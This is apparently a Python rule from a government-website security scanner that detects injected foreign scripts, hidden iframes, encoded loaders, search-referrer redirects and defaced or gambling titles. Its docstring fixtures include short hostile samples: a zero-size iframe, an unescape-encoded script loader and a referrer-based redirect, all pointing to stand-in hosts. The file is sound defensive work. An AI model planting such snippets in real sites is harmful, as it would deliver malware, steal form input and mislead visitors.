"""页面被加入来路不明的脚本、框架或表单，首页标题被换

## 检查什么
- 页面引用的外站脚本、嵌入的外站页面、把填写内容交到外站的表单，其域名是否都认得：本站、政府网站、常见公共服务（统计、地图、
  分享、公用程序库等）、配置 [security] known_hosts 里的，以及以往各次扫描中多个页面长期使用的，都不报。
  看不见的框架、用编码写出的脚本、只写 IP 地址的、以往扫描中从未出现的，按最严重的报；其余只请核对一次来历。
- 脚本是否把从搜索引擎来的访客转到外站（直接打开时看不出来）。
- 页面标题、关键词是否成了赌博、色情推广；首页标题和 SiteName 是否与上次扫描、与配置中的网站名称毫无关系。

## 依据
国办秘函〔2019〕19号 检查指标 单项否决：网站被篡改、挂马等安全问题。

## 怎么改
不认得的域名，请技术人员查明由谁加入：属于采购的服务，写进配置 [security] known_hosts；否则立即删除，按网络安全事件处置
（保留现场、查找后门、修补漏洞、更换口令、报告网信和公安部门）。

## 例子
```site review=1
/ 200 <iframe src="http://a.example/x.html" width="0" height="0"></iframe>
```
脚本、表单，各算一个域名；同一域名在多个页面是一个问题：
```site review=2
/ 200 <script src="http://a.example/s.js"></script><form method="post" action="http://b.example/save"><input name="q"></form>
|<a href="/p.html">页</a>
/p.html 200 <script src="http://a.example/s.js"></script>
```
编码写出的脚本、专骗搜索引擎访客的跳转：
```site review=2
/ 200 <script>document.write(unescape("%3Cscript%20src%3D%22http%3A//a.example/j.js%22%3E%3C/script%3E"))</script><a href="/p.html">页</a>
/p.html 200 <script>if(/baidu|sogou/.test(document.referrer)){location.href="http://b.example/go"}</script>
```
标题成了赌博推广：
```site review=1
/ 200 <title>真人百家乐_网上赌场_澳门投注平台</title><p>正文</p>
```
首页标题与配置的网站名称毫无关系：
```site review=1
+ name = "示范区人民政府"
/ 200 <title>Hacked By 4dm1n Team</title><p>正文</p>
```
本站、政府网站、统计、地图、公用程序库、配置的域名不报：
```site
+ hosts = ["static.other.example"]
+ [security]
+ known_hosts = ["widget.example"]
/ 200 <script src="/js/a.js"></script><script src="http://img.t.gov.cn/b.js"></script>
|<script src="https://hm.baidu.com/hm.js?1"></script><script src="http://static.other.example/c.js"></script>
|<iframe src="http://widget.example/w"></iframe><iframe src="https://zwfw.hl.gov.cn/"></iframe>
```
禁赌新闻、查处通报的标题不报：
```site
/ 200 <title>示范区人民政府</title><a href="/p.html">页</a>
/p.html 200 <title>区公安分局打击百家乐、六合彩等网上赌场专项行动通报</title><p>正文</p>
```
外站的链接、查询表单交给政府网站、统计脚本自己写出的不报：
```site
+ name = "示范区人民政府"
/ 200 <title>示范区政府门户网站</title><a href="http://a.example/">企业</a><form action="http://search.hl.gov.cn/s">
|<input name="q"></form>
|<script>
|document.write(unescape("%3Cscript src='http://s95.cnzz.com/z_stat.php%3Fid%3D1' type='text/javascript'%3E%3C/script%3E"));</script>
```
脚本新建的脚本元素：不认得的外站要核对，统计、推送代码不报：
```site review=1
/  200 <h1>首页</h1><a href="/a">甲</a>
|<script>var k=document.createElement('script');k.src='https://js.a.example/k.js';document.body.appendChild(k)</script>
/a 200 <h1>要闻</h1><script>var b=document.createElement("script");b.setAttribute("src","https://hm.baidu.com/hm.js?1")</script>
```
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

from checks.finding import Fault, Outcome, Severity
from checks.links.occurrences import shorten
from checks.rule import page_rule
from checks.scan import Scan
from checks.security.hosts import owner, place
from checks.security.illicit import PLAIN, PUBLIC, host_promotes, is_report, promotes
from portal import urls
from portal.page import EMBEDDED, Cover, LinkKind, Page

_PARTS = {LinkKind.SCRIPT: "脚本", LinkKind.FRAME: "嵌入页面"}
_TAGS = {"script": "脚本", "iframe": "嵌入页面", "frame": "嵌入页面", "embed": "嵌入内容", "form": "表单"}
_UNASKED = "请技术人员查明由谁加入：属于采购或使用的服务，写进配置 [security] known_hosts；否则立即删除，按网络安全事件处置"
_DEFACED = "请立即核对页面；确被篡改的，先断开、保留现场，再恢复页面、修补漏洞、更换口令，并按规定报告"
_OFFICIAL = re.compile(r"政府|政务|首页|门户|网站|[省市区县旗州镇乡盟]|[局委办厅院]|\.gov")
_LEAST = 6  # characters of a title that says something


@dataclass(frozen=True, slots=True)
class _Part:
    url: str
    what: str
    cover: Cover | None = None


@page_rule("SEC003", "foreign-script", Severity.VETO, "pages")
def check(page: Page, scan: Scan) -> Iterator[Fault]:
    yield from _strange_parts(page, scan)
    for url in page.diverts:
        if not scan.hosts.is_trusted(url):
            what = f"页面脚本把从搜索引擎来的访客转到外站 {place(url)}，直接打开时看不出来"
            yield Fault(
                page.url,
                what,
                Outcome.REVIEW,
                target=url,
                suggestion=_DEFACED,
                subject=f"{place(url)} divert",
            )
    yield from _title(page)
    if page.url == scan.home:
        yield from _drift(page, scan)


def _strange_parts(page: Page, scan: Scan) -> Iterator[Fault]:
    told: dict[str, list[_Part]] = {}
    for part in _parts(page):
        if not scan.hosts.is_known(part.url):
            told.setdefault(owner(part.url), []).append(part)
    for host, parts in told.items():
        signs = _signs(host, parts, scan)
        if not signs and scan.past.is_at_home(host):
            continue
        kinds = "、".join(dict.fromkeys(part.what for part in parts))
        yield Fault(
            page.url,
            f"页面有来自外站 {host} 的{kinds}"
            + (f"：{'；'.join(signs)}" if signs else "，不在已知域名之内，请核对来历"),
            Outcome.REVIEW,
            target=parts[0].url,
            suggestion=_UNASKED,
            subject=host,
            severity=None if signs else Severity.INFO,
        )


def _parts(page: Page) -> Iterator[_Part]:
    seen = set()
    for group in page.outside:
        if group.tag in _TAGS:
            for url, _ in group.links:
                seen.add(url)
                yield _Part(url, _TAGS[group.tag], group.cover)
    for link in page.links:
        if link.kind in EMBEDDED and link.url and link.url not in seen:
            yield _Part(link.url, _PARTS[link.kind])


def _signs(host: str, parts: list[_Part], scan: Scan) -> list[str]:
    """What speaks for an attack and not for a service that nobody noted."""
    signs = []
    if any(part.what == "嵌入页面" and part.cover in {Cover.BOX, Cover.AWAY, Cover.TAIL} for part in parts):
        signs.append("嵌入的页面小到看不见")
    if any(part.cover is Cover.ENCODED for part in parts):
        signs.append("由脚本用编码写出")
    if urls.address_of(host.rpartition(":")[0] or host) and any(part.what != "表单" for part in parts):
        signs.append("只写 IP 地址，没有域名")
    if kind := host_promotes(host):
        signs.append(f"域名像是{kind}类网站")
    if scan.past.scans and not scan.past.had(host):
        signs.append("以往扫描中从未出现")
    return signs


def _title(page: Page) -> Iterator[Fault]:
    for what, text in (("标题", page.title), ("关键词", page.meta.get("keywords", ""))):
        said = promotes(text) if text else None
        if said and said.kind in PUBLIC and said.weight >= PLAIN and not is_report(text):
            yield Fault(
                page.url,
                f"网页{what}成了{said.kind}类推广：“{shorten(text)}”，疑似被篡改",
                Outcome.REVIEW,
                text=shorten(text),
                suggestion=_DEFACED,
                subject=f"{page.url} {what}",
            )
            return


def _drift(page: Page, scan: Scan) -> Iterator[Fault]:
    """The home page under another name than before, or than the office gave."""
    now = f"{page.title} {page.meta.get('sitename', '')}"
    title, name = scan.past.homes[0] if scan.past.homes else ("", "")
    before = f"{title} {name}".strip()
    if before and title and page.title and not _related(now, before) and not _related(now, scan.profile.name):
        said = f"首页标题由“{shorten(title)}”变成“{shorten(page.title)}”，与上次扫描毫无关系，疑似被篡改"
    elif scan.profile.name and _is_strange(page.title) and not _related(now, scan.profile.name):
        said = f"首页标题“{shorten(page.title)}”与网站名称“{scan.profile.name}”毫无关系，疑似被篡改"
    else:
        return
    yield Fault(page.url, said, Outcome.REVIEW, suggestion=_DEFACED, subject=f"{page.url} 首页标题")


def _is_strange(title: str) -> bool:
    return len(title) >= _LEAST and not _OFFICIAL.search(title) and not promotes(title)


def _related(one: str, other: str) -> bool:
    """Whether two names share two characters in a row that are more than space and marks."""
    pairs = {one[i : i + 2].lower() for i in range(len(one) - 1)}
    return any(other[i : i + 2].lower() in pairs for i in range(len(other) - 1) if other[i : i + 2].isalnum())
